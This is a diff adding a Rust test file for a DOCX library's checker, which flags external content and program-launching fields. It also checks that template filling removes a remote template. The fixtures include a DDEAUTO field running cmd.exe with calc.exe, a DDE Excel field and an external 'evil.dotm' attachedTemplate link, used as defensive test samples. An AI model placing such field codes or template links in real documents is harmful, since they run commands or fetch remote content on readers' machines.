@@ -1,0 +1,93 @@
+//! What a document would have its readers fetch or start from elsewhere.
+
+use waraq_docx::Package;
+use waraq_docx::build::{Document, paragraph, run};
+use waraq_docx::fields::{self, FillOptions, Severity, Values};
+
+fn found(document: &Document) -> Vec<(String, Severity, String)> {
+    let package = Package::open(&document.to_bytes()).unwrap();
+    let all = fields::check(&package, &|_| true).unwrap().into_iter();
+    let external = all.filter(|finding| finding.code == "external_content");
+    external.map(|finding| (finding.part, finding.severity, finding.context)).collect()
+}
+
+fn coded(pieces: &[&str]) -> String {
+    let character = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
+    let code: String = pieces
+        .iter()
+        .map(|code| format!("<w:r><w:instrText xml:space=\"preserve\">{code}</w:instrText></w:r>"))
+        .collect();
+    format!("<w:p>{}{code}{}{}{}</w:p>", character("begin"), character("separate"), run("result"), character("end"))
+}
+
+#[test]
+fn what_a_reader_would_load_unasked_is_an_error() {
+    for kind in ["oleObject", "subDocument", "aFChunk", "frame", "mailMergeSource", "somethingNew"] {
+        let mut document = Document::new(&paragraph("text"));
+        document.relate(kind, "https://example.org/x", true);
+        let expected = ("word/document.xml".to_owned(), Severity::Error, "https://example.org/x".to_owned());
+        assert_eq!(found(&document), [expected], "{kind}");
+    }
+}
+
+#[test]
+fn a_linked_picture_is_a_warning_and_a_link_is_nothing() {
+    let mut document = Document::new(&paragraph("text"));
+    document.relate("hyperlink", "https://example.org/", true);
+    assert_eq!(found(&document), []);
+    document.relate("image", "https://example.org/logo.png", true);
+    let severities: Vec<_> = found(&document).into_iter().map(|(_, severity, _)| severity).collect();
+    assert_eq!(severities, [Severity::Warning]);
+}
+
+#[test]
+fn fields_that_start_programs_are_errors_however_they_are_cut() {
+    let code = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
+    let cut = [" DD", "EAU", "TO c:\\\\windows\\\\system32\\\\cmd.exe ", "\"/k calc.exe\" "];
+    for body in [
+        coded(&cut),
+        format!("<w:p><w:fldSimple w:instr=\" {} \">{}</w:fldSimple></w:p>", code.replace('"', "&quot;"), run("x")),
+        format!("<w:tbl><w:tr><w:tc>{}</w:tc></w:tr></w:tbl>", coded(&cut)),
+    ] {
+        let found = found(&Document::new(&body));
+        assert_eq!(found.len(), 1, "{body}");
+        assert_eq!((found[0].1, found[0].2.as_str()), (Severity::Error, code));
+    }
+    let mut in_a_footer = Document::new(&paragraph("text"));
+    in_a_footer.related("footer", "ftr", "footer1.xml", &coded(&[" DDE Excel Sheet1 R1C1 "]));
+    assert_eq!(found(&in_a_footer)[0].0, "word/footer1.xml");
+    let shown = found(&Document::new(&coded(&[" INCLUDEPICTURE \"https://example.org/a.png\" \\d "])));
+    assert_eq!(shown[0].1, Severity::Warning);
+    assert_eq!(found(&Document::new(&coded(&[" PAGE "]))), []);
+}
+
+#[test]
+fn a_filled_document_keeps_no_template_from_elsewhere() {
+    let mut document = Document::new(&paragraph("{{a}}"));
+    document.related(
+        "settings",
+        "settings",
+        "settings.xml",
+        "<w:zoom w:percent=\"100\"/><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"700\"/>",
+    );
+    let relationships = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" \
+        Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://example.org/evil.dotm\" \
+        TargetMode=\"External\"/><Relationship Id=\"rId2\" Type=\"urn:other\" Target=\"kept.xml\"/></Relationships>";
+    let bytes = document.part("word/_rels/settings.xml.rels", relationships).to_bytes();
+    let package = Package::open(&bytes).unwrap();
+    let values = Values::from_pairs([("a", "b")]).unwrap();
+    let filled = fields::fill(&package, &values, FillOptions::default()).unwrap().to_bytes().unwrap();
+    let filled = Package::open(&filled).unwrap();
+    filled.validate().unwrap();
+    for part in ["word/settings.xml", "word/_rels/settings.xml.rels"] {
+        let text = filled.text(part).unwrap();
+        assert!(!text.contains("evil") && !text.contains("attachedTemplate"), "{text}");
+    }
+    assert!(filled.text("word/settings.xml").unwrap().contains("defaultTabStop"));
+    assert!(filled.text("word/_rels/settings.xml.rels").unwrap().contains("kept.xml"));
+    assert_eq!(
+        fields::check(&package, &|_| true).unwrap().iter().filter(|one| one.code == "external_content").count(),
+        0,
+        "it is taken out, so nobody is told"
+    );
+}
